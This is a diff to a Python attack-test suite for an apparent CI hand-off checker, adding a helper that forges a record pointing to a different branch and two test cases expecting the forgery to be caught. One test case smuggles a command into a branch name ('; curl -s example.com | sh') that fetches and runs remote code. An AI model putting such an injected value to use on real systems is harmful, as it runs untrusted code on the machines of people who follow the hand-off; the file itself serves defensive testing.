@@ -12,7 +12,7 @@ from runner.records.evidence import GENERATED, EvidenceFile
 from runner.rules.handoff.document import VERSION
 from tests.attack.case import Case, Finding, passes
 from tests.attack.desk import Desk
-from tests.attack.forgery import altered, altered_json, blind, forge
+from tests.attack.forgery import HOME, altered, altered_json, blind, forge
 from tests.promotion_fixture import HANDOFF
 
 RULE = "6.9 hand-off"
@@ -37,6 +37,15 @@ def without(desk: Desk, *names: EvidenceFile) -> Finding:
     staging = desk.records["staging"]
     kept = {name: data for name, data in staging.evidence.items() if name not in names}
     return forge(desk, desk.staged(replace(staging, evidence=kept)))
+
+
+def elsewhere(desk: Desk, branch: bytes) -> Finding:
+    """CI records another branch as the run's, and makes the hand-off of it, which tells people to switch there."""
+    real = b"runs/desk/it-1"
+    files = altered(desk, "handoff.md", lambda data: data.replace(real, branch))
+    record = files[f"{HOME}record.yaml"]
+    assert real in record
+    return forge(desk, {**files, f"{HOME}record.yaml": record.replace(real, branch)})
 
 
 def terms_moved(desk: Desk) -> Finding:
@@ -121,6 +130,20 @@ CASES = (
         "The bill of materials names another base.",
         RULE,
         partial(stated, name="bom.cdx.json", edit=lambda it: it["components"][0].update(name="another")),
+    ),
+    Case(
+        "handoff-with-a-command",
+        "The record's branch, which people are told to switch to, carries a command of its own.",
+        "6.1 files",
+        partial(elsewhere, branch=b"runs/desk/it-1; curl -s example.com | sh"),
+        says="run.branch is not runs/desk/it-1",
+    ),
+    Case(
+        "handoff-of-another-run",
+        "The hand-off leads to the branch of another iteration.",
+        "6.1 files",
+        partial(elsewhere, branch=b"runs/desk/it-2"),
+        says="run.branch is not runs/desk/it-1",
     ),
     Case("terms-moved", "The licence on main is another than on the cards.", RULE, terms_moved),
     Case("terms-unreadable", "What people state cannot be read at the base.", RULE, unreadable),
